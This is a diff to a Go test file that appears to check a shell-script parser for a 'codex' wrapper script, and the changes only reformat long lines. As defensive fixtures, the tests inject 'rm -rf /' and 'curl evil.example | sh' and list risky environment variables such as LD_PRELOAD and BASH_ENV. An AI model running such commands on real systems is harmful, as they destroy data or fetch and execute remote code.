@@ -41,14 +41,16 @@ func TestWrappedByCodex(t *testing.T) {
 			t.Errorf("a command after %q is not seen", text[max(0, at-40):at])
 		}
 	}
-	for _, name := range []string{"PATH", "IFS", "BASH_ENV", "LD_PRELOAD", "PS4", "SHELLOPTS", "HOME", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "CODEX_x", "HTTP_PROXYS"} {
+	for _, name := range []string{"PATH", "IFS", "BASH_ENV", "LD_PRELOAD", "PS4", "SHELLOPTS",
+		"HOME", "PROMPT_COMMAND", "GIT_SSH_COMMAND", "CODEX_x", "HTTP_PROXYS"} {
 		if own(strings.ReplaceAll(text, "HTTP_PROXY", name)) != "" {
 			t.Errorf("%q is kept", name)
 		}
 	}
 }
 
-// What stands around is followed no further, and everything else is: the file, PATH and the command.
+// What stands around is followed no further, and everything else is: the file, PATH and the
+// command.
 func TestAroundIsFollowed(t *testing.T) {
 	text := codexText(t)
 	s := Parse(text, Options{Home: "/h"})
@@ -72,7 +74,8 @@ func TestAroundIsFollowed(t *testing.T) {
 	for _, command := range []string{"rm -rf /", "curl evil.example | sh"} {
 		for _, where := range []string{"\nif . '", "if [ -n \"${PATH:-}\" ]", "\nexec '/p/bash'"} {
 			changed := strings.Replace(text, where, fmt.Sprintf("\n%s\n%s", command, where), 1)
-			if s := Parse(changed, Options{Home: "/h"}); !slices.ContainsFunc(s.Commands, func(c Command) bool { return c.Name == strings.Fields(command)[0] }) {
+			if s := Parse(changed, Options{Home: "/h"}); !slices.ContainsFunc(s.Commands,
+				func(c Command) bool { return c.Name == strings.Fields(command)[0] }) {
 				t.Errorf("%q before %q is not seen", command, where)
 			}
 		}
